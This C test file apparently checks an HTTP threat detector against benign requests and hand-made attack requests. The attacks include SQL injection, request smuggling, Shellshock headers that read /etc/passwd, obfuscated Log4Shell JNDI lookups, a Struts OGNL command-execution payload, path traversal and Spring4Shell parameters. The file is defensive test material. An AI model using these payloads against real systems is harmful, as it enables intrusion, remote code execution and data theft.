// SPDX-License-Identifier: GPL-2.0
/*
 * The HTTP checks: requests as curl 7.88.1 and Firefox send them (benign
 * ones as recorded, attacks hand-made from public exploit write-ups), fed
 * whole and cut into chunks of every size, which must find the same.
 */

#include "threat_test.h"
#include "kselftest_harness.h"

#define BIT(x) CW_THREAT_BIT(CW_THREAT_HTTP_##x)

static void __attribute__((constructor)) init(void)
{
	cw_threat_http_init();
}

/* The threats @msgs show whole and in every cut; ~0 if a cut changed them. */
static u64 threats(const struct msg *msgs, unsigned int n, bool *done)
{
	struct cw_threat_limits limits;

	cw_threat_default_limits(&limits);
	return threat_check(CW_APP_HTTP, IPPROTO_TCP, &limits, msgs, n, done);
}

#define THREATS(msgs) threats(msgs, sizeof(msgs) / sizeof(msgs[0]), NULL)

struct sample {
	u64 expected;
	const char *request;
};

/* Each request alone: the samples that found other than expected. */
static int check(struct __test_metadata *_metadata, const struct sample *samples,
		 unsigned int n)
{
	int wrong = 0;

	for (unsigned int i = 0; i < n; i++) {
		struct msg m = { true, samples[i].request, strlen(samples[i].request) };
		u64 found = threats(&m, 1, NULL);

		if (found != samples[i].expected) {
			TH_LOG("sample %u: found %#llx, expected %#llx:\n%s", i,
			       (unsigned long long)found,
			       (unsigned long long)samples[i].expected, samples[i].request);
			wrong++;
		}
	}
	return wrong;
}

#define CHECK(samples) check(_metadata, samples, sizeof(samples) / sizeof(samples[0]))

#define CURL_GET(target) \
	"GET " target " HTTP/1.1\r\nHost: 127.0.0.1:47080\r\nUser-Agent: curl/7.88.1\r\n" \
	"Accept: */*\r\n\r\n"

#define FORM_POST(body) \
	"POST /login HTTP/1.1\r\nHost: 127.0.0.1:47080\r\nUser-Agent: curl/7.88.1\r\n" \
	"Accept: */*\r\nContent-Length: " #body "\r\n" \
	"Content-Type: application/x-www-form-urlencoded\r\n\r\n"

static const char firefox_get[] =
	"GET /shop/items?category=books&sort=price&order=asc&page=2 HTTP/1.1\r\n"
	"Host: shop.example.org\r\n"
	"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0\r\n"
	"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,"
	"image/webp,*/*;q=0.8\r\n"
	"Accept-Language: en-US,en;q=0.5\r\n"
	"Accept-Encoding: gzip, deflate, br\r\n"
	"Referer: https://shop.example.org/shop/?q=don%27t+stop+me+now\r\n"
	"Connection: keep-alive\r\n"
	"Cookie: session=8f2a9c41d0b7e6f5; theme=dark; consent=1\r\n"
	"Upgrade-Insecure-Requests: 1\r\n"
	"Sec-Fetch-Dest: document\r\n"
	"Sec-Fetch-Mode: navigate\r\n"
	"Sec-Fetch-Site: same-origin\r\n"
	"Sec-Fetch-User: ?1\r\n"
	"\r\n";

TEST(benign)
{
	static const struct sample samples[] = {
		{ 0, CURL_GET("/index.html?q=1") },
		{ 0, firefox_get },
		{ 0, CURL_GET("/search?q=don't+stop+me+now") },
		{ 0, CURL_GET("/search?q=don%27t%20stop%20me%20now") },
		{ 0, CURL_GET("/list?sort=name&order=desc") },
		{ 0, CURL_GET("/find?search=select+a+union+rep") },
		{ 0, CURL_GET("/books?title=O'Reilly&page=2") },
		{ 0, CURL_GET("/union/select/station") },
		{ 0, CURL_GET("/a/./b/index.html") },
		{ 0, CURL_GET("/files/..hidden") },
		{ 0, CURL_GET("/docs/v1.2..v1.3/diff") },
		{ 0, CURL_GET("/price?amount=5%2B3&sum=100%25") },
		{ 0, CURL_GET("/tmpl?expr=$%7Bname%7D&x=%24{env:HOME}") },
		{ 0, CURL_GET("/api/classes?class=module&loader=x") },
		{ 0, FORM_POST(31) "user=alice&password=s3cr%27t%21" },
		{ 0, "POST /api/v1/items HTTP/1.1\r\nHost: localhost:47080\r\n"
		     "User-Agent: curl/7.88.1\r\nAccept: */*\r\nContent-Type: application/json\r\n"
		     "Content-Length: 31\r\n\r\n{\"name\":\"it's\",\"count\":1}\r\n\r\n" },
		{ 0, "POST /upload HTTP/1.1\r\nHost: localhost:47080\r\n"
		     "User-Agent: curl/7.88.1\r\nAccept: */*\r\nTransfer-Encoding: chunked\r\n"
		     "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
		     "7\r\na=1&b=2\r\n6;ext=1\r\n&c=it'\r\n2\r\ns!\r\n"
		     "0\r\nX-Checksum: 42\r\n\r\n" },
		{ 0, "POST /x HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: gzip, Chunked\r\n\r\n"
		     "0\r\n\r\n" },
		{ 0, "POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 2\r\nContent-Length: 2\r\n\r\n"
		     "ok" },
		{ 0, "GET / HTTP/1.1\nHost: h\nContent-Length:\t 0 \n\n" },
		{ 0, "\r\n" CURL_GET("/") },
	};

	EXPECT_EQ(0, CHECK(samples));
}

/* A response is not looked at, and does not end the checks. */
TEST(responses_ignored)
{
	static const struct msg msgs[] = {
		C(CURL_GET("/")),
		S("HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nContent-Length: 33\r\n\r\n"
		  "${jndi:ldap://x/a} ../../etc '--\n"),
		C(CURL_GET("/?id=1%27%20or%20%271%27=%271")),
	};
	bool done;

	EXPECT_EQ(BIT(SQL_INJECTION), THREATS(msgs));
	/* The response raised nothing and left the checker reading. */
	EXPECT_EQ(0ull, threats(msgs, 2, &done));
	EXPECT_FALSE(done);
}

/* Keep-alive: the second request is the attack, after a body and a chunked body. */
TEST(keep_alive)
{
	static const struct msg msgs[] = {
		C(FORM_POST(9) "q=a+b%27c"
		  "POST /up HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
		  "5\r\nhello\r\n0\r\n\r\n"),
		S("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
		C(CURL_GET("/item?id=1%20OR%201=1--")),
	};
	static const struct msg benign[] = {
		C(FORM_POST(9) "q=a+b%27c"),
		C(CURL_GET("/item?id=1")),
	};

	EXPECT_EQ(BIT(SQL_INJECTION), THREATS(msgs));
	EXPECT_EQ(0ull, THREATS(benign));
}

TEST(sql_injection)
{
	static const struct sample samples[] = {
		{ BIT(SQL_INJECTION), CURL_GET("/item?id=1%27%20or%20%271%27%3D%271") },
		{ BIT(SQL_INJECTION), CURL_GET("/item?id=1'+or+'1'='1") },
		{ BIT(SQL_INJECTION), CURL_GET("/item?id=1%20OR%201=1--") },
		{ BIT(SQL_INJECTION),
		  CURL_GET("/item?x=2&id=1'%20union%20select%20null,version()--") },
		{ BIT(SQL_INJECTION), CURL_GET("/s?q=x'%20and%20sleep(5)--") },
		{ BIT(SQL_INJECTION), CURL_GET("/item?id=1;drop%20table%20users") },
		{ BIT(SQL_INJECTION), CURL_GET("/login?u=admin'--&p=x") },
		{ BIT(SQL_INJECTION),
		  CURL_GET("/item?id=1+and+extractvalue(1,concat(0x7e,version()))") },
		{ BIT(SQL_INJECTION), CURL_GET("/item?id=1%20waitfor%20delay%20'0:0:5'") },
		{ BIT(SQL_INJECTION), CURL_GET("/item?id=1%2527%2520or%25201%253D1") },
		{ BIT(SQL_INJECTION), CURL_GET("/item?id=1/**/UNION/**/SELECT/**/password") },
		{ BIT(SQL_INJECTION), CURL_GET("/item/1'%20or%20'a'='a") },
		{ BIT(SQL_INJECTION), FORM_POST(28) "user=admin%27--&password=abc" },
		{ BIT(SQL_INJECTION), FORM_POST(21) "id=1'+or+'1'%3D'1&x=y" },
		{ BIT(SQL_INJECTION), FORM_POST(17) "a=b&id=1+OR+1%3D1" },
	};

	EXPECT_EQ(0, CHECK(samples));
}

TEST(smuggling)
{
	static const struct sample samples[] = {
		{ BIT(SMUGGLING_CL_TE),
		  "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 6\r\n"
		  "Transfer-Encoding: chunked\r\n"
		  "\r\n0\r\n\r\n" },
		{ BIT(SMUGGLING_CL_TE),
		  "POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n"
		  "Content-Length: 4\r\n"
		  "\r\n5c\r\nGPOST / HTTP/1.1\r\n\r\n0\r\n\r\n" },
		{ BIT(SMUGGLING_CL_CL),
		  "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 8\r\nContent-Length: 7\r\n\r\n"
		  "12345678" },
		{ BIT(SMUGGLING_CL_CL),
		  "POST / HTTP/1.1\r\nHost: h\r\nContent-length: 0\r\n"
		  "Content-Length : 44\r\n\r\n" },
		{ BIT(SMUGGLING_TE) | BIT(SMUGGLING_CL_TE),
		  "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\n"
		  "Transfer-Encoding: xchunked\r\n"
		  "\r\n0\r\n\r\n" },
	};
	static const char *const obfuscated_te[] = {
		"Transfer-Encoding: xchunked\r\n",
		"Transfer-Encoding: chunked, identity\r\n",
		"Transfer-Encoding: chunked\x0b\r\n",
		"Transfer-Encoding: chunk\r\n",
		"Transfer-Encoding: gzip\r\n",
		"Transfer-Encoding:\r\n",
		"Transfer-Encoding: chunked,\r\n",
		"Transfer-Encoding: ,chunked\r\n",
		"Transfer-Encoding : chunked\r\n",
		"Transfer-Encoding\t: chunked\r\n",
		"Transfer_Encoding: chunked\r\n",
		"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
		"Transfer-Encoding:\r\n chunked\r\n",
		"Transfer-Encoding: \"chunked\"\r\n",
	};
	static const char *const fine_te[] = {
		"Transfer-Encoding: chunked\r\n",
		"transfer-encoding:chunked\r\n",
		"Transfer-Encoding: gzip, chunked\r\n",
		"Transfer-Encoding: x-gzip,deflate ,\tcompress, identity, chunked \r\n",
		"TRANSFER-ENCODING: CHUNKED\r\nX-Folded: a\r\n b\r\n",
	};
	char request[256];

	EXPECT_EQ(0, CHECK(samples));
	for (unsigned int i = 0; i < sizeof(obfuscated_te) / sizeof(obfuscated_te[0]); i++) {
		struct sample sample = { BIT(SMUGGLING_TE), request };

		snprintf(request, sizeof(request), "POST / HTTP/1.1\r\nHost: h\r\n%s\r\n0\r\n\r\n",
			 obfuscated_te[i]);
		EXPECT_EQ(0, check(_metadata, &sample, 1));
	}
	for (unsigned int i = 0; i < sizeof(fine_te) / sizeof(fine_te[0]); i++) {
		struct sample sample = { 0, request };

		snprintf(request, sizeof(request), "POST / HTTP/1.1\r\nHost: h\r\n%s\r\n0\r\n\r\n",
			 fine_te[i]);
		EXPECT_EQ(0, check(_metadata, &sample, 1));
	}
}

TEST(bad_content_length)
{
	static const char *const bad[] = {
		"-1", "", " ", "+5", "5a", "0x10", "1 2", "5, 5", "1.0",
		"1234567890123456789", "99999999999999999999999",
	};
	static const char *const fine[] = { "0", " 5", "5 ", "\t7", "123456789012345678" };
	char request[256];

	for (unsigned int i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		struct sample sample = { BIT(BAD_CONTENT_LENGTH), request };

		snprintf(request, sizeof(request),
			 "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: %s\r\n\r\n", bad[i]);
		EXPECT_EQ(0, check(_metadata, &sample, 1));
	}
	/* Only the head: the body would be long. */
	for (unsigned int i = 0; i < sizeof(fine) / sizeof(fine[0]); i++) {
		struct sample sample = { 0, request };

		snprintf(request, sizeof(request),
			 "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: %s\r\n\r\n", fine[i]);
		EXPECT_EQ(0, check(_metadata, &sample, 1));
	}
}

TEST(slowloris)
{
	static const char head[] = "GET / HTTP/1.1\r\nHost: h\r\nX-a: b\r\n";
	struct cw_threat_limits limits;
	struct cw_threat_scan s;

	cw_threat_default_limits(&limits);
	ASSERT_EQ(20u, limits.threshold[CW_THREAT_HTTP_SLOWLORIS]);

	/* 25 s between the head's first bytes and the next. */
	cw_threat_scan_init(&s, CW_APP_HTTP);
	EXPECT_EQ(0ull, cw_threat_scan(&s, &limits, true, (const u8 *)head, 5, 1000,
				    THREAT_BUDGET));
	EXPECT_EQ(0ull, cw_threat_scan(&s, &limits, true, (const u8 *)head + 5, 10, 20000,
				    THREAT_BUDGET));
	EXPECT_EQ(BIT(SLOWLORIS), cw_threat_scan(&s, &limits, true, (const u8 *)head + 15,
						 sizeof(head) - 16, 26000, THREAT_BUDGET));
	/* The head's end is no new head: the next request has its own clock. */
	EXPECT_EQ(BIT(SLOWLORIS), cw_threat_scan(&s, &limits, true, (const u8 *)"\r\nGET",
						 5, 27000, THREAT_BUDGET));
	EXPECT_EQ(0ull, cw_threat_scan(&s, &limits, true, (const u8 *)" / HTTP/1.1\r\n", 13,
				    46000, THREAT_BUDGET));
	EXPECT_EQ(BIT(SLOWLORIS), cw_threat_scan(&s, &limits, true, (const u8 *)"\r\n", 2,
						 48000, THREAT_BUDGET));

	/* A whole head at once, however late, and the threshold as set. */
	cw_threat_scan_init(&s, CW_APP_HTTP);
	EXPECT_EQ(0ull, cw_threat_scan(&s, &limits, true, (const u8 *)CURL_GET("/"),
				    sizeof(CURL_GET("/")) - 1, 90000, THREAT_BUDGET));
	limits.threshold[CW_THREAT_HTTP_SLOWLORIS] = 5;
	cw_threat_scan_init(&s, CW_APP_HTTP);
	EXPECT_EQ(0ull, cw_threat_scan(&s, &limits, true, (const u8 *)head, 5, 1000,
				    THREAT_BUDGET));
	EXPECT_EQ(BIT(SLOWLORIS), cw_threat_scan(&s, &limits, true, (const u8 *)head + 5, 5,
						 6001, THREAT_BUDGET));
	/* 0: off. */
	limits.threshold[CW_THREAT_HTTP_SLOWLORIS] = 0;
	EXPECT_EQ(0ull, cw_threat_scan(&s, &limits, true, (const u8 *)head + 10, 5, 600000,
				    THREAT_BUDGET));
}

TEST(shellshock)
{
	static const struct sample samples[] = {
		{ BIT(SHELLSHOCK),
		  "GET /cgi-bin/status HTTP/1.1\r\nHost: h\r\n"
		  "User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'\r\n\r\n" },
		{ BIT(SHELLSHOCK),
		  "GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: h\r\n"
		  "Referer: (){ :;}; ping -c 1 x\r\n\r\n" },
		{ BIT(SHELLSHOCK),
		  "GET / HTTP/1.1\r\nHost: h\r\n"
		  "Cookie: a=1; b=() { _; } >_[$($())] { id; }\r\n\r\n" },
		{ BIT(SHELLSHOCK), CURL_GET("/cgi-bin/x?%28%29%20%7B%20%3A%3B%20%7D%3B%20id") },
		{ 0, CURL_GET("/f(x)?a=()&b={}") },
		{ 0, FORM_POST(14) "code=()+{+:;+}" },
	};

	EXPECT_EQ(0, CHECK(samples));
}

TEST(log4shell)
{
	static const struct sample samples[] = {
		{ BIT(LOG4SHELL), "GET / HTTP/1.1\r\nHost: h\r\n"
				  "User-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n" },
		{ BIT(LOG4SHELL), "GET / HTTP/1.1\r\nHost: h\r\n"
				  "X-Api-Version: ${JNDI:rmi://x/a}\r\n\r\n" },
		{ BIT(LOG4SHELL), CURL_GET("/?q=%24%7Bjndi%3Adns%3A%2F%2Fx%7D") },
		{ BIT(LOG4SHELL), CURL_GET("/${jndi:ldap://x/a}") },
		{ BIT(LOG4SHELL), "GET / HTTP/1.1\r\nHost: h\r\n"
				  "User-Agent: ${${lower:j}ndi:ldap://x/a}\r\n\r\n" },
		{ BIT(LOG4SHELL), "GET / HTTP/1.1\r\nHost: h\r\n"
				  "User-Agent: ${${upper:j}${upper:n}di:ldap://x/a}\r\n\r\n" },
		{ BIT(LOG4SHELL), "GET / HTTP/1.1\r\nHost: h\r\n"
				  "Referer: ${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}\r\n\r\n" },
		{ BIT(LOG4SHELL), "GET / HTTP/1.1\r\nHost: h\r\n"
				  "X-Forwarded-For: ${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}"
				  "\r\n\r\n" },
		{ BIT(LOG4SHELL), "GET / HTTP/1.1\r\nHost: h\r\n"
				  "Accept: ${j${k8s:k5:-ND}i:ldap://x/a}\r\n\r\n" },
		{ BIT(LOG4SHELL), "GET / HTTP/1.1\r\nHost: h\r\n"
				  "Accept: ${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}"
				  "\r\n\r\n" },
		{ BIT(LOG4SHELL), "GET / HTTP/1.1\r\nHost: h\r\n"
				  "Accept: ${${lower:${upper:j}}ndi:ldap://x}\r\n\r\n" },
		{ BIT(LOG4SHELL), "POST /api HTTP/1.1\r\nHost: h\r\n"
				  "Content-Type: application/json\r\nContent-Length: 31\r\n\r\n"
				  "{\"user\":\"${jndi:ldap://x/a}\"}\r\n" },
		{ 0, "GET / HTTP/1.1\r\nHost: h\r\nX-A: ${lower:j}ndi: ${java:version}\r\n\r\n" },
		{ 0, "GET / HTTP/1.1\r\nHost: h\r\nX-A: ${${lower:x}ndi:ldap://x} ${jnd}\r\n\r\n" },
		{ 0, "GET / HTTP/1.1\r\nHost: h\r\nX-A: $jndi: {jndi:\r\n\r\n" },
	};

	EXPECT_EQ(0, CHECK(samples));
}

TEST(struts_ognl)
{
	static const struct sample samples[] = {
		{ BIT(STRUTS_OGNL),
		  "POST /struts2-showcase/index.action HTTP/1.1\r\nHost: h\r\n"
		  "Content-Type: %{(#_='multipart/form-data')."
		  "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
		  "(#_memberAccess?(#_memberAccess=#dm):((#container=#context["
		  "'com.opensymphony.xwork2.ActionContext.container'])).(#cmd='id')."
		  "(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}\r\n"
		  "Content-Length: 0\r\n\r\n" },
		{ BIT(STRUTS_OGNL), CURL_GET("/index.action?redirect:%24%7B%28%23a%3D1%29%7D") },
		{ BIT(STRUTS_OGNL), CURL_GET("/x.action?name=%25%7B%28%23cmd%3D%27id%27%29%7D") },
		{ BIT(STRUTS_OGNL), FORM_POST(35) "x=%23_memberAccess%5B%27allow%27%5D" },
		{ 0, CURL_GET("/page?context=home&cmd=list&tag=%23news") },
	};

	EXPECT_EQ(0, CHECK(samples));
}

TEST(path_traversal)
{
	static const struct sample samples[] = {
		{ BIT(PATH_TRAVERSAL), CURL_GET("/static/../../etc/passwd") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/static/..\\..\\windows\\win.ini") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/static/%2e%2e%2f%2e%2e%2fetc/passwd") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/static/..%2f..%2fetc/passwd") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/static/%2E%2E/secret") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/static/%252e%252e%252fetc/passwd") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/static/%c0%ae%c0%ae%c0%afetc/passwd") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/static/..%5cboot.ini") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/download?file=../../etc/shadow") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/download?file=%2e%2e%2fconfig") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/static/a/..") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/static/a/..?x=1") },
		{ 0, CURL_GET("/a/./b") },
		{ 0, CURL_GET("/files/..hidden") },
		{ 0, CURL_GET("/files/x..?a=b..c") },
		{ 0, CURL_GET("/%c0%ae/%c3%a9t%c3%a9") },
	};

	EXPECT_EQ(0, CHECK(samples));
}

TEST(spring4shell)
{
	static const struct sample samples[] = {
		{ BIT(SPRING4SHELL),
		  CURL_GET("/app?class.module.classLoader.resources.context.parent.pipeline.first."
			   "pattern=x") },
		{ BIT(SPRING4SHELL), CURL_GET("/app?a=1&class.Module.ClassLoader.URLs%5B0%5D=0") },
		{ BIT(SPRING4SHELL), CURL_GET("/app?class%5Bmodule%5D%5BclassLoader%5D.x=1") },
		{ BIT(SPRING4SHELL),
		  FORM_POST(76) "class.module.classLoader.resources.context.parent.pipeline.first."
				"suffix=.jsp" },
		{ 0, CURL_GET("/app?doc=class.module.classLoader") },
		{ 0, CURL_GET("/app?class=module&classLoader=1") },
	};

	EXPECT_EQ(0, CHECK(samples));
}

/*
 * Content is read in runs up to the bytes that mean more than content (a
 * '+' in a query or form, '%', '$', the structure of the request): the
 * same is found whatever the run ends at, or the byte that ends it.
 */
TEST(content_runs)
{
	static const struct sample samples[] = {
		{ BIT(SQL_INJECTION), CURL_GET("/?id=1+or+1=1") },
		{ 0, CURL_GET("/1+or+1=1") },
		{ 0, CURL_GET("/?id=1%2Bor%2B1=1") },
		{ BIT(SQL_INJECTION), CURL_GET("/?id=1%2520or%25201=1") },
		{ BIT(PATH_TRAVERSAL), CURL_GET("/caf\xc3\xa9/../x") },
		{ BIT(LOG4SHELL), CURL_GET("/?q=%2524%257Bjndi:x%257D") },
		{ BIT(LOG4SHELL), CURL_GET("/?q=$$$%7Bjndi:x%7D") },
		{ 0, "GET / HTTP/1.1\r\nHost: h\r\nX-A: $5 {jndi:x} $\r\n\r\n" },
		{ BIT(SHELLSHOCK), "GET / HTTP/1.1\r\nHost: h\r\nCookie: x=1\r\n"
				   "X-A: () { :; }; /bin/id\r\n\r\n" },
		{ BIT(SQL_INJECTION),
		  "POST /login HTTP/1.1\r\nHOST: h\r\nCONTENT-LENGTH: 13\r\n"
		  "CONTENT-TYPE: APPLICATION/X-WWW-FORM-URLENCODED\r\n\r\nid=1+OR+1%3D1" },
		{ BIT(SQL_INJECTION),
		  "POST /login HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n"
		  "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
		  "5\r\nid=1+\r\n8\r\nor+1%3D1\r\n0\r\n\r\n" },
		{ 0, "POST /login HTTP/1.1\r\nHost: h\r\nContent-Length: 12\r\n\r\n"
		     "id=1+or+1=1&" },
	};

	EXPECT_EQ(0, CHECK(samples));
}

/* Whatever comes after a body whose length cannot be told is body. */
TEST(lost_framing)
{
	static const struct msg msgs[] = {
		C("POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
		  "zz\r\nGET /?id=1%20or%201=1 HTTP/1.1\r\nUser-Agent: ${jndi:x}\r\n\r\n"),
	};

	EXPECT_EQ(BIT(LOG4SHELL), THREATS(msgs));
}

TEST_HARNESS_MAIN
